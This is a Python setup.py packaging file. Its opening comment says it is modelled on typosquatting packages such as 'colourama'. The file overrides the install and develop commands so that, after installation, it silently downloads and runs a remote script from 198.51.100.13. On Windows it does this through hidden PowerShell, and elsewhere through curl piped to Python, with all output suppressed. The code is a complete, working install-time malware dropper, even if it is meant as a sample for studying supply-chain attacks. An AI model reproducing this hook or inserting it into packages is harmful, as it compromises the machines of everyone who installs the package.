# Inspired by the long line of typosquats (e.g. "colourama" 2018, the 2022-2023 "requests"/"pillow" look-alikes) whose setup.py overrides install/develop to fetch and run a payload.
import os
import subprocess
import sys

from setuptools import find_packages, setup
from setuptools.command.develop import develop
from setuptools.command.install import install


def _post():
    url = "http://198.51.100.13/inst.py"
    if os.name == "nt":
        cmd = ["powershell", "-w", "hidden", "-c", f"iwr {url} -OutFile $env:TEMP\\i.py; python $env:TEMP\\i.py"]
    else:
        cmd = ["/bin/sh", "-c", f"curl -fsSL {url} | {sys.executable} -"]
    subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


class PostInstall(install):
    def run(self):
        install.run(self)
        _post()


class PostDevelop(develop):
    def run(self):
        develop.run(self)
        _post()


setup(
    name="sample",
    version="1.0.0",
    packages=find_packages(),
    cmdclass={"install": PostInstall, "develop": PostDevelop},
)
